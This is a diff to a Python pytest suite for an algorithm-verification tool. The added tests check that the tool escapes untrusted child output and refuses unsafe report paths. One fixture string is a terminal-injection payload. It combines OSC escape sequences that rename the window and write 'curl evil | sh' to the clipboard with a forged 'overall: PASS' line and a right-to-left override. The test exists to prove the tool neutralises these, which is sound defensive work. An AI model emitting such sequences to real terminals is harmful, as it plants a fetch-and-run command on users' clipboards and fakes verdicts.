@@ -15,10 +15,13 @@ import textwrap
 import time
 
 import pytest
+from judging import judged_below, needs_sandbox
 
 from duelbound.checks.verify import verify_algorithm
 from duelbound.cli import main
 from duelbound.theory.errors import DuelboundError
+
+pytestmark = needs_sandbox   # every test judges code (CI: DUELBOUND_REQUIRE_SANDBOX=1)
 
 FAST = dict(T=3000, runs=1, time_limit=30.0, hang_timeout=3.0)
 
@@ -49,30 +52,13 @@ def _spec(tmp_path, monkeypatch, name: str, source: str, attr: str = "make") -> 
     return f"{name}:{attr}"
 
 
-def _token_processes(mark: str) -> list[int]:
-    """Processes still carrying a judge run's token whose command line names ``mark``
-    (this test's folder: other test sessions may be judging at the same time)."""
-    out = []
-    for entry in os.scandir("/proc"):
-        if not entry.name.isdigit():
-            continue
-        try:
-            with open(f"/proc/{entry.name}/environ", "rb") as fh:
-                env = fh.read()
-            with open(f"/proc/{entry.name}/cmdline", "rb") as fh:
-                cmd = fh.read()
-        except OSError:
-            continue
-        if b"DUELBOUND_RUN_TOKEN=" in env and mark.encode() in cmd:
-            out.append(int(entry.name))
-    return out
-
-
 @pytest.fixture(autouse=True)
-def _no_leftovers(tmp_path):
+def _no_leftovers():
     yield
-    time.sleep(0.05)
-    assert _token_processes(str(tmp_path)) == [], "a judged process survived its run"
+    deadline = time.monotonic() + 5.0   # a killed sandbox is reaped asynchronously
+    while judged_below() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert judged_below() == [], "a judged process survived its run"
 
 
 def _fails(report, check: str | None = None) -> None:
@@ -451,3 +437,88 @@ def test_a_run_function_given_as_the_factory_is_explained(tmp_path, monkeypatch)
     """, attr="run")
     with pytest.raises(DuelboundError, match=r"factory\(K, T, seed\).*def make"):
         verify_algorithm(spec, ["cyclic"], T=100, runs=1)
+
+
+# an exception message meant for the terminal: window title, clipboard (OSC 52: "curl
+# evil | sh"), carriage return + erase line + a forged verdict on a line of its own, a
+# right-to-left override, and a lone surrogate that cannot be encoded at all
+FORGED = ("\\x1b]0;owned\\x07\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\r\\x1b[2K"
+          "\\noverall: PASS (exit code 0)\\u202eLIAF\\ud800")
+ACTIVE = ("\x1b", "\x07", "\r", "\u202e", "\n" + "overall: PASS")
+
+
+@pytest.mark.parametrize("where", ["select", "import"])
+def test_text_from_the_child_is_data_on_every_channel(tmp_path, monkeypatch, capfd, where):
+    _spec(tmp_path, monkeypatch, "h_text", f"""
+        import sys
+        FORGED = "{FORGED}"
+        for stream in (sys.stdout, sys.stderr):   # raw bytes, the surrogate's included
+            stream.buffer.write(FORGED.encode("utf-8", "surrogatepass") + b"\\n")
+            stream.flush()
+        if {where == "import"!r}:
+            raise ImportError(FORGED)
+        #FIXED
+        class Liar(Fixed):
+            def select(self):
+                if self.t == 500:
+                    raise RuntimeError(FORGED)
+                return super().select()
+        def make(K, T, seed):
+            return Liar(K, T, seed)
+    """)
+    monkeypatch.chdir(tmp_path)
+    out = tmp_path / "report.json"
+    code = main(["verify", "h_text:make", "--only", "cyclic", "--T", "2000", "--runs", "1",
+                 "--hang-timeout", "3", "--json", str(out)])
+    seen = capfd.readouterr()
+    report = out.read_text(encoding="utf-8") if where == "select" else ""
+    for text in (seen.out, seen.err, report):
+        text.encode("utf-8")                       # no lone surrogate: valid UTF-8
+        assert not any(a in text for a in ACTIVE), repr(text)
+    assert code == (1 if where == "select" else 2)
+    if where == "import":                          # one line, the text escaped in it
+        assert len(seen.err.strip().splitlines()) == 1 and "\\x1b]52" in seen.err
+        return
+    data = json.loads(report)
+    assert data["verdict"] == "FAIL" and data["exit_code"] == 1
+    assert "\\x1b]52;c;" in data["matrices"][0]["checks"][0]["message"]
+    assert "\\x1b]0;owned" in data["matrices"][0]["runs"][0]["stdout_tail"]
+    assert seen.out.splitlines()[-1].startswith("overall: FAIL")
+
+
+@pytest.mark.parametrize("kind", ["empty", "symlink", "dev-stdout", "device"])
+def test_the_report_path_is_a_regular_file_or_nothing(tmp_path, monkeypatch, capsys, kind):
+    real = tmp_path / "real.json"
+    real.write_text("untouched")
+    target = {"empty": "", "dev-stdout": "/dev/stdout", "device": "/dev/null",
+              "symlink": str(tmp_path / "link.json")}[kind]
+    if kind == "symlink":
+        os.symlink(real, target)
+    code = main(["verify", "uniform", "--only", "cyclic", "--T", "100", "--runs", "1",
+                 "--json", target])
+    err = capsys.readouterr().err
+    assert code == 2 and len(err.strip().splitlines()) == 1 and "--json" in err, err
+    assert real.read_text() == "untouched"
+    if kind == "symlink":
+        assert os.path.islink(target)
+    assert os.path.islink("/dev/stdout") or not os.path.exists("/dev/stdout")
+
+
+def test_a_reader_closing_stdout_early_changes_neither_exit_code_nor_report(tmp_path,
+                                                                           monkeypatch):
+    import subprocess
+
+    _spec(tmp_path, monkeypatch, "h_head", """
+        #FIXED
+        def make(K, T, seed):
+            return Fixed(K, T, seed)
+    """)
+    out = tmp_path / "report.json"
+    proc = subprocess.Popen([sys.executable, "-m", "duelbound", "verify", "h_head:make",
+                             "--only", "cyclic", "--T", "2000", "--runs", "1",
+                             "--hang-timeout", "3", "--json", str(out), "--quiet"],
+                            cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
+                            env=dict(os.environ, PYTHONPATH=str(tmp_path)))
+    proc.stdout.close()   # a reader gone before the table is printed (`| head -0`)
+    assert proc.wait(timeout=120) == 1
+    assert json.loads(out.read_text())["verdict"] == "FAIL"
